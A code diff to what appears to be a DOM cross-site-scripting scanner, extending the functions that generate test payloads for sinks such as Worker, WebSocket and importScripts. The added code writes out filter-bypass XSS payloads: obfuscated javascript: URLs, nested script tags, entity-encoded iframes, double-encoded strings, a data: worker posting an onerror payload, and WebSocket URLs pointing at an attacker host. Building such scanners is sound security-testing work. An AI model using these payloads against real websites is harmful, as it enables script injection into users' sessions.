@@ -43,14 +43,31 @@ export function payloadsFor({ sink, value, element }: SinkUse, mark: string, cod
   if (markup.has(sink) || (sink === 'Blob' && markupType.test(element))) return markupPayloads(value, mark, code);
   if (sink === 'Blob') return scriptType.test(element) ? scriptPayloads(value, mark, code, false) : [];
   if (script.has(sink)) return scriptPayloads(value, mark, code, sink === 'Function');
-  if (isRequest(sink) || element === 'script' || element === 'base') return urlsOfScript(value, mark, code);
+  if (sink === 'Worker') return workersThatReply(value, mark, code);
+  if (sink === 'WebSocket') return urlsOfServer(value, mark, code);
+  if (isRequest(sink) || sink === 'importScripts' || element === 'script' || element === 'base')
+    return urlsOfScript(value, mark, code);
   const before = (value.toLowerCase().split(mark, 1)[0] ?? '').trim();
   if (before.startsWith('javascript:')) return scriptPayloads(value.trim().slice(11), mark, code, false);
   // A host of a URL.
   if (/^https?:\/\/[^/]{0,200}$/.test(before)) return [];
   // A URL that the browser has resolved already still tells whether the value was all of it.
   if (sink === 'location' ? /[?#]/.test(before) : before !== '') return [];
-  return [`javascript:${code}(1)`, `javascript:${code}(1)//`, `javascript:${code}(1)//http://https://x`];
+  return urlsOfCode(code);
+}
+
+/** As written, with what many pages look for in a URL, and past filters of the scheme as it is usually written. */
+function urlsOfCode(code: string): readonly string[] {
+  return [
+    `javascript:${code}(1)`,
+    `javascript:${code}(1)//`,
+    `javascript:${code}(1)//http://https://x`,
+    `JaVaScRiPt:${code}(1)`,
+    `java\tscript:${code}(1)`,
+    `javajavascript:script:${code}(1)`,
+    `\u0001javascript:${code}(1)`,
+    `javascript://x/%0A${code}(1)`,
+  ];
 }
 
 /** Runs where a document of XML is adopted, too. */
@@ -60,7 +77,7 @@ function elementOfXhtml(code: string): string {
 
 function markupPayloads(value: string, mark: string, code: string): readonly string[] {
   if (value.includes(mark) || !value.includes(mark.toUpperCase()))
-    return [...breakouts(value, mark, code), ...withoutEncoded(value, mark, code)];
+    return [...breakouts(value, mark, code), ...withoutEncoded(value, mark, code), ...pastFilters(value, mark, code)];
   // Names of script have small letters; numbers of characters stay as they are.
   return breakouts(value.replaceAll(mark.toUpperCase(), mark), mark, code).map((payload) =>
     payload.replaceAll(
@@ -121,6 +138,19 @@ function structureOf(text: string): { readonly quote: string; readonly open: rea
   return { quote, open };
 }
 
+/** A worker of a `data:` URL has an origin of its own; what it posts is of this page again. */
+function workersThatReply(value: string, mark: string, code: string): readonly string[] {
+  return value.startsWith(mark) ? [`data:text/javascript,postMessage("<img src=x onerror=${code}(1)>")//`] : [];
+}
+
+/** URLs of a WebSocket whose server is the attacker's. */
+function urlsOfServer(value: string, mark: string, code: string): readonly string[] {
+  const before = value.toLowerCase().split(mark, 1)[0] ?? '';
+  if (before === '') return [`wss://${code}.example/`];
+  if (/^wss?:\/\/$/.test(before)) return [`${code}.example/`];
+  return /^wss?:\/\/[^/?#]*$/.test(before) ? [`.${code}.example/`, `@${code}.example/`] : [];
+}
+
 /** URLs of a script that runs `code`: of its own, on another site, and where a host or a path precedes the mark. */
 function urlsOfScript(value: string, mark: string, code: string): readonly string[] {
   const host = `${code}.example`;
@@ -141,6 +171,21 @@ function breakouts(text: string, mark: string, code: string): string[] {
     breakoutsFrom(context, code, true).map(({ payload }) => payload),
   );
   return [...new Set(payloads)].slice(0, maxPayloads);
+}
+
+/** Past filters of names of elements, of handlers and schemes, of brackets, and of what is decoded once more behind them. */
+function pastFilters(text: string, mark: string, code: string): readonly string[] {
+  const contexts = reflectionContexts(text, mark);
+  const [likeliest] = contexts.flatMap((context) => breakoutsFrom(context, code, true).slice(0, 1));
+  if (likeliest === undefined) return [];
+  const withoutCall = likeliest.payload.replaceAll(`${code}(1)`, code);
+  if (!contexts.some(({ kind }) => kind === 'text')) return [withoutCall];
+  return [
+    `<scr<script>ipt>${code}(1)</scr</script>ipt>`,
+    `<iframe srcdoc="&#60;script&#62;${code}(1)&#60;/script&#62;"></iframe><iframe src="java&#115;cript&colon;${code}(1)"></iframe>`,
+    withoutCall,
+    encodeURIComponent(encodeURIComponent(likeliest.payload)),
+  ];
 }
 
 /** For values in single quotes of URLs that the page does not decode: browsers encode spaces, double quotes and brackets there. */
